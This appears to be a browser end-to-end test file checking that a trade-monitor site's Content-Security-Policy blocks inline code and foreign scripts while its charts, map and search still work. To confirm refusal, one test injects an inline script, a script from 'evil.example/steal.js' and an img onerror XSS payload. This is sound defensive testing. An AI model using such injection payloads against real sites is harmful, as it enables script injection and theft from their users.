"""The pages under the site's Content-Security-Policy (issue #13, "CSP that keeps the site working"): no
'unsafe-inline' or 'unsafe-eval' anywhere in the policy; served by ``usmca serve`` (header) and as files
(the meta tag every page carries), each part of the site draws its charts, map and search with no policy
violation and no request off localhost; an injected inline script and a script from another origin are
refused while the charts, the map and the search still work; only embeds may be framed by other sites.
A static pass over the whole default build checks no page holds an inline script, event handler or
style attribute the policy would block."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import httpx
import lxml.html
import pytest

from tests.e2e.helpers import _page, plain_host
from usmca_monitor import csp
from usmca_monitor.server import CSP

pytestmark = pytest.mark.browser
RECORD = ("window.__csp = []; document.addEventListener('securitypolicyviolation', "
          "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));")
PAGES = ["index.html", "indicators/tdr.html", "topics/agrifood.html", "topics/autos.html", "topics/tdr-partners.html",
         "goal1/spi.html", "goals/index.html", "facts/index.html", "embed/tdr.html"]


def test_the_policy_allows_no_inline_code_and_no_eval() -> None:
    for policy in (csp.PAGE, csp.EMBED, csp.META):
        assert "unsafe-inline" not in policy and "'unsafe-eval'" not in policy
        assert "script-src 'self' 'wasm-unsafe-eval';" in policy and "style-src 'self';" in policy
    assert "frame-ancestors" not in csp.META  # ignored by browsers in a meta tag
    assert csp.PAGE.endswith("frame-ancestors 'self'") and csp.EMBED.endswith("frame-ancestors *")


def test_no_page_holds_code_the_policy_blocks(default_site: Path) -> None:
    pages = sorted(default_site.rglob("*.html"))
    assert len(pages) > 500
    for path in pages:
        text = path.read_text(encoding="utf-8")
        if 'http-equiv="refresh"' in text:
            continue  # a redirect page: no script, no style
        tree = lxml.html.fromstring(text)
        where = path.relative_to(default_site)
        metas = tree.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')
        assert metas == [csp.META], where
        for script in tree.iter("script"):
            assert script.get("src") or script.get("type") == "application/json", (where, script.attrib)
        assert not list(tree.iter("style")), where
        for tag in tree.iter():
            if not isinstance(tag.tag, str):
                continue  # a comment
            handlers = [a for a in tag.attrib if a.lower().startswith("on")]
            assert not handlers and "style" not in tag.attrib, (where, tag.tag, dict(tag.attrib))
            assert not re.match(r"\s*javascript:", tag.get("href") or "", re.I), (where, dict(tag.attrib))


@pytest.mark.parametrize("path", PAGES)
def test_pages_work_under_the_policy(browser: object, base_url: str, path: str) -> None:
    header = httpx.get(f"{base_url}/en/{path}").headers["content-security-policy"]
    assert header == (csp.EMBED if path.startswith("embed/") else CSP)
    outside: list[str] = []
    errors: list[str] = []
    page: Any = _page(browser, outside, errors)
    page.add_init_script(RECORD)
    page.goto(f"{base_url}/en/{path}")
    charts = page.locator("[data-chart], #ind-main")
    for i in range(charts.count()):
        charts.nth(i).locator("svg").first.wait_for(timeout=20_000)
        assert charts.nth(i).get_attribute("data-rendered") == "true", path
    assert page.evaluate("window.__csp") == [], path
    assert not errors and not outside, (errors, outside)


def test_injected_scripts_are_refused_while_charts_map_and_search_work(browser: object, base_url: str) -> None:
    page: Any = _page(browser, [])
    page.add_init_script(RECORD)
    page.goto(f"{base_url}/en/goal1/spi.html")
    page.locator("#spi-map[data-rendered=true]").wait_for(timeout=30_000)
    assert page.locator("#spi-map svg path").count() > 30  # the states are drawn
    page.evaluate("""() => {
        window.__ran = false;
        const inline = document.createElement('script');
        inline.textContent = 'window.__ran = true;';
        document.body.appendChild(inline);
        const remote = document.createElement('script');
        remote.src = 'https://evil.example/steal.js';
        document.head.appendChild(remote);
        const div = document.createElement('div');
        div.innerHTML = '<img src="x" onerror="window.__ran = true">';
        document.body.appendChild(div);
    }""")
    page.wait_for_function("window.__csp.length >= 3", timeout=5_000)
    violations = page.evaluate("window.__csp")
    assert page.evaluate("window.__ran") is False
    assert any(v.startswith("script-src") and v.endswith(" inline") for v in violations), violations
    assert any(v.startswith("script-src") and "evil.example" in v for v in violations), violations
    # the page still works: charts on a topic page, and the offline search (WebAssembly) finds a state
    page.goto(f"{base_url}/en/topics/agrifood.html")
    charts = page.locator("[data-chart]")
    assert charts.count() > 0
    for i in range(charts.count()):
        charts.nth(i).locator("svg").first.wait_for(timeout=20_000)
        assert charts.nth(i).get_attribute("data-rendered") == "true"
    page.goto(f"{base_url}/en/search.html")
    page.fill("#search input", "Chihuahua")
    page.locator(".pagefind-ui__result").first.wait_for(timeout=20_000)
    assert page.evaluate("window.__csp") == []


def test_the_meta_policy_alone_protects_a_page_served_without_headers(browser: object, default_site: Path) -> None:
    """A host that serves the files as they are (no CSP header): the meta tag still refuses inline code."""
    page: Any = _page(browser, [])
    page.add_init_script(RECORD)
    with plain_host(default_site) as host:
        page.goto(f"{host}/en/topics/autos.html")
        charts = page.locator("[data-chart]")
        assert charts.count() > 0
        for i in range(charts.count()):  # the meta policy alone still lets the charts draw
            charts.nth(i).locator("svg").first.wait_for(timeout=20_000)
            assert charts.nth(i).get_attribute("data-rendered") == "true"
        page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
                      " document.body.appendChild(s); }")
        page.wait_for_function("window.__csp.length > 0", timeout=5_000)
        assert page.evaluate("window.__ran") is None
